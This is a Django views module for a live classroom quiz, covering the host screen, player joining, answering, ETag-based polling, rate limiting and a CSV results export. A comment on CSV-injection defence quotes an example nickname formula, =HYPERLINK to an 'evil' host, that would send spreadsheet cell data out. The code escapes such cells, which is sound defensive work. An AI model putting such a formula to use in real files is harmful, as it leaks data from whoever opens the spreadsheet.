"""Live quiz pages: the instructor's host screen and the players' phone screen.

Both screens poll a fragment of their own page about once a second. The fragment carries an
ETag (the session's version, the countdown second, ...): an unchanged screen costs a 304,
and a finished session answers 286, htmx's "stop polling".
"""

import csv
import math
from functools import wraps

from django.conf import settings
from django.contrib import messages
from django.contrib.auth.decorators import login_required
from django.core.exceptions import PermissionDenied
from django.http import HttpResponse, HttpResponseRedirect
from django.shortcuts import get_object_or_404, redirect, render
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext as _
from django.views.decorators.cache import never_cache
from django.views.decorators.http import require_GET, require_http_methods, require_POST
from django.views.decorators.vary import vary_on_headers

from studyapp.accounts.roles import is_instructor
from studyapp.notes.views import HtmxHttpRequest

from . import codes, ratelimit, selectors, services
from .forms import SessionForm
from .models import LiveSession, Player

STOP_POLLING = 286
COOKIE_MAX_AGE = 12 * 60 * 60
HOST_ACTIONS = {
    "start": services.session_start,
    "next": services.session_next,
    "pause": services.session_pause,
    "resume": services.session_resume,
    "skip": services.session_skip,
    "end": services.session_end,
}


def _cookie_name(code: str) -> str:
    return f"live_{code}"


def instructor_required(view):
    @login_required
    @wraps(view)
    def wrapper(request, *args, **kwargs):
        if not is_instructor(request.user):
            raise PermissionDenied(_("Only instructors can host live quizzes."))
        return view(request, *args, **kwargs)

    return wrapper


def _hosted(request, session_id: int) -> LiveSession:
    session = get_object_or_404(LiveSession, pk=session_id)
    if session.host_id != request.user.pk and not request.user.is_superuser:
        raise PermissionDenied(_("This quiz belongs to another instructor."))
    return session


def _seconds(ms: int | None) -> int | None:
    return None if ms is None else math.ceil(ms / 1000)


def _sent_etags(request) -> list[str]:
    """The entity tags of If-None-Match, without quotes or the weak ``W/`` prefix.

    Browsers send back what they got, but a proxy or a compressing middleware may have made
    the tag weak (``W/"..."``); If-None-Match uses the weak comparison (RFC 9110, 13.1.2).
    """
    tags = []
    for tag in request.headers.get("If-None-Match", "").split(","):
        tag = tag.strip()
        if tag[:2] in ("W/", "w/"):
            tag = tag[2:]
        tags.append(tag.strip('"'))
    return [tag for tag in tags if tag]


def _not_modified(request, etag: str) -> bool:
    sent = _sent_etags(request)
    return "*" in sent or etag.strip('"') in sent


def _with_etag(response: HttpResponse, etag: str) -> HttpResponse:
    response["ETag"] = etag
    return response


# --- host --------------------------------------------------------------------------------------


@require_GET
@instructor_required
def index(request: HtmxHttpRequest) -> HttpResponse:
    sessions = selectors.host_sessions(request.user)[:50]
    return render(request, "live/index.html", {"sessions": sessions})


@require_http_methods(["GET", "POST"])
@instructor_required
def session_new(request: HtmxHttpRequest) -> HttpResponse:
    form = SessionForm(request.POST or None, host=request.user)
    status = 200
    if request.method == "POST":
        if form.is_valid():
            try:
                session = services.session_create(
                    host=request.user,
                    title=form.cleaned_data["title"],
                    questions=form.chosen_questions(),
                    time_limit=form.cleaned_data["time_limit"],
                    streak_bonus=form.cleaned_data["streak_bonus"],
                )
            except services.LiveError as error:
                form.add_error(None, error.message)
            else:
                return redirect("live:host", session.pk)
        status = 400
    return render(request, "live/new.html", {"form": form}, status=status)


def _host_context(request, session: LiveSession) -> dict:
    now = timezone.now()
    item = selectors.current_item(session)
    context = {
        "session": session,
        "item": item,
        "remaining": _seconds(services.remaining_ms(session, now)),
        "players": list(selectors.active_players(session)),
        "join_url": request.build_absolute_uri(reverse("live:join")),
    }
    if session.state == LiveSession.State.OPEN:
        context["choices"] = selectors.shown_choices(item)
        context["answered"] = selectors.answered_count(session)
    elif session.state == LiveSession.State.CLOSED:
        context["choices"] = selectors.revealed_choices(item)
        context["answered"] = selectors.answered_count(session)
        context["standings"] = selectors.leaderboard(session, limit=10)
    elif session.state == LiveSession.State.FINISHED:
        standings = selectors.leaderboard(session)
        context["standings"] = standings
        context["podium"] = [s for s in standings if s.rank <= 3][:3]
    context["item_count"] = session.items.count()
    return context


def _host_etag(request, session: LiveSession) -> str:
    remaining = _seconds(services.remaining_ms(session))
    answered = selectors.answered_count(session) if session.state == "open" else 0
    players = selectors.active_players(session).count()
    return f'"h{session.version}.{remaining}.{answered}.{players}.{request.LANGUAGE_CODE}"'


@require_GET
@instructor_required
@never_cache
@vary_on_headers("HX-Request")
def host(request: HtmxHttpRequest, session_id: int) -> HttpResponse:
    session = services.session_tick(session=_hosted(request, session_id))
    if not request.htmx:
        return render(request, "live/host.html", _host_context(request, session))
    etag = _host_etag(request, session)
    if session.finished:
        response = render(request, "live/host.html#panel", _host_context(request, session))
        response.status_code = STOP_POLLING
        return _with_etag(response, etag)
    if _not_modified(request, etag):
        return _with_etag(HttpResponse(status=304), etag)
    return _with_etag(
        render(request, "live/host.html#panel", _host_context(request, session)), etag
    )


def _host_reply(request, session: LiveSession, error: str = "", status: int = 200):
    if request.htmx:
        context = _host_context(request, session) | {"error": error}
        return render(request, "live/host.html#panel", context, status=status)
    if error:
        messages.error(request, error)
    return HttpResponseRedirect(reverse("live:host", args=[session.pk]), status=303)


@require_POST
@instructor_required
def host_action(request: HtmxHttpRequest, session_id: int, action: str) -> HttpResponse:
    session = _hosted(request, session_id)
    try:
        # The version the host's screen showed (see services._locked); absent: act anyway.
        sent = request.POST.get("version", "").strip()
        if sent and not (sent.isascii() and sent.isdigit()):
            raise services.LiveError(_("That request could not be read. Reload the page."), 400)
        expected = int(sent) if sent else None
        session = HOST_ACTIONS[action](session=session, expected_version=expected)
    except services.LiveError as error:
        session.refresh_from_db()
        return _host_reply(request, session, error.message, error.status)
    return _host_reply(request, session)


@require_POST
@instructor_required
def kick(request: HtmxHttpRequest, session_id: int, player_id: int) -> HttpResponse:
    session = _hosted(request, session_id)
    player = get_object_or_404(Player, pk=player_id, session=session)
    services.player_kick(session=session, player=player)
    session.refresh_from_db()
    return _host_reply(request, session)


# A cell starting with one of these is a formula to a spreadsheet: a nickname such as
# =HYPERLINK("http://evil/?"&A1) would run when the instructor opens the report (OWASP "CSV
# injection"). A leading apostrophe makes it text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


@require_GET
@instructor_required
def report(request: HtmxHttpRequest, session_id: int) -> HttpResponse:
    session = _hosted(request, session_id)
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="live-{session.code}-{session.pk}.csv"'
    writer = csv.writer(response)
    writer.writerow(selectors.REPORT_HEADER)
    writer.writerows([_csv_cell(cell) for cell in row] for row in selectors.report_rows(session))
    return response


# --- players -----------------------------------------------------------------------------------


def _player(request, code: str) -> Player | None:
    return selectors.player_for_token(code, request.COOKIES.get(_cookie_name(code)))


@require_http_methods(["GET", "POST"])
@never_cache
def join(request: HtmxHttpRequest) -> HttpResponse:
    # "123 456" as read out from the screen is the code 123456.
    code = "".join((request.POST.get("code") or request.GET.get("code") or "").split())
    nickname = request.POST.get("nickname", "")
    context = {"code": code, "nickname": nickname, "error": ""}
    if request.method == "GET":
        # A cookie from a finished quiz whose code was drawn again must not hide the form.
        player = _player(request, code) if codes.looks_like_code(code) else None
        if player is not None and not player.session.finished:
            return redirect("live:play", code)
        return render(request, "live/join.html", context)

    ip = ratelimit.client_ip(request)
    if ratelimit.join_blocked(ip=ip):
        context["error"] = _(
            "Too many wrong codes from your network. Wait a few minutes and try again."
        )
        return render(request, "live/join.html", context, status=429)
    session = selectors.session_for_code(code)
    if session is None:
        ratelimit.join_failure_record(ip=ip)
        context["error"] = _("No running quiz has that code. Check the 6 digits on the screen.")
        return render(
            request, "live/join.html", context, status=404 if codes.looks_like_code(code) else 400
        )
    existing = _player(request, code)
    if existing is not None and existing.session_id == session.pk:
        return redirect("live:play", code)  # a reload or a second tap: same player
    try:
        _player_obj, token = services.player_join(session=session, nickname=nickname)
    except services.LiveError as error:
        context["error"] = error.message
        return render(request, "live/join.html", context, status=error.status)
    response = HttpResponseRedirect(reverse("live:play", args=[code]), status=303)
    response.set_cookie(
        _cookie_name(code),
        token,
        max_age=COOKIE_MAX_AGE,
        path="/live/",
        httponly=True,
        samesite="Lax",
        secure=settings.SESSION_COOKIE_SECURE,
    )
    return response


def _player_context(player: Player, error: str = "") -> dict:
    session = player.session
    item = selectors.current_item(session)
    context = {
        "session": session,
        "player": player,
        "item": item,
        "error": error,
        "remaining": _seconds(services.remaining_ms(session)),
    }
    if player.kicked:
        return context
    state = session.state
    if state == LiveSession.State.OPEN:
        context["answer"] = selectors.player_answer(player, item)
        if context["answer"] is None:
            # Only the choices' ids, letters and text: nothing says which one is right.
            context["choices"] = selectors.shown_choices(item)
    elif state == LiveSession.State.CLOSED:
        context["answer"] = answer = selectors.player_answer(player, item)
        letters = selectors.letters_for(item)
        context["correct_letters"] = sorted(
            letters[c.id] for c in selectors.revealed_choices(item) if c.correct
        )
        context["my_letters"] = (
            sorted(letters.get(pk, "?") for pk in answer.choice_ids) if answer else []
        )
        context["rank"] = selectors.player_rank(player)
    elif state == LiveSession.State.FINISHED:
        context["rank"] = selectors.player_rank(player)
        context["podium"] = [s for s in selectors.leaderboard(session, limit=3) if s.rank <= 3]
    return context


def _player_screen(request, player: Player) -> str:
    """What the player's screen shows, the countdown aside: the session's and player's versions."""
    return f"p{player.session.version}.{player.rev}.{request.LANGUAGE_CODE}"


@require_GET
@never_cache
@vary_on_headers("HX-Request", "Cookie")
def play(request: HtmxHttpRequest, code: str) -> HttpResponse:
    player = _player(request, code)
    if player is None:
        if request.htmx:
            return render(request, "live/play.html#gone", {"code": code}, status=STOP_POLLING)
        return redirect(f"{reverse('live:join')}?code={code}")
    services.session_tick(session=player.session)
    if not request.htmx:
        return render(request, "live/play.html", _player_context(player))
    session = player.session
    remaining = _seconds(services.remaining_ms(session))
    screen = _player_screen(request, player)
    etag = f'"{screen}.{remaining}"'
    if session.finished or player.kicked:
        response = render(request, "live/play.html#panel", _player_context(player))
        response.status_code = STOP_POLLING
        return _with_etag(response, etag)
    if _not_modified(request, etag):
        return _with_etag(HttpResponse(status=304), etag)
    if remaining is not None and any(tag.startswith(f"{screen}.") for tag in _sent_etags(request)):
        # Only the countdown moved: send just that element, the rest of the screen stays.
        context = {"session": session, "remaining": remaining}
        response = render(request, "live/play.html#countdown", context)
        response["HX-Retarget"] = "#player-countdown"
        response["HX-Reswap"] = "outerHTML"
        return _with_etag(response, etag)
    return _with_etag(render(request, "live/play.html#panel", _player_context(player)), etag)


@require_POST
@never_cache
def answer(request: HtmxHttpRequest, code: str) -> HttpResponse:
    player = _player(request, code)
    if player is None:
        return render(request, "live/play.html#gone", {"code": code}, status=403)
    error, status = "", 200
    try:
        position = int(request.POST.get("question", "")) - 1
        choice_ids = [int(value) for value in request.POST.getlist("choice")]
        if position < 0:
            raise ValueError("question numbers start at 1")
    except ValueError:
        error, status = _("That answer could not be read. Choose again."), 400
    else:
        try:
            recorded = services.answer_submit(
                player=player, position=position, choice_ids=choice_ids
            )
        except services.LiveError as failure:
            error, status = failure.message, failure.status
    if not error:
        if not request.htmx:
            return HttpResponseRedirect(reverse("live:play", args=[code]), status=303)
        # "Answer sent", from what is at hand: the busiest moment of a quiz, keep it cheap.
        session = player.session
        context = {"session": session, "player": player, "item": recorded.item,
                   "answer": recorded, "remaining": _seconds(services.remaining_ms(session))}  # fmt: skip
        return render(request, "live/play.html#panel", context)
    player.refresh_from_db()
    player.session.refresh_from_db()
    template = "live/play.html#panel" if request.htmx else "live/play.html"
    return render(request, template, _player_context(player, error), status=status)
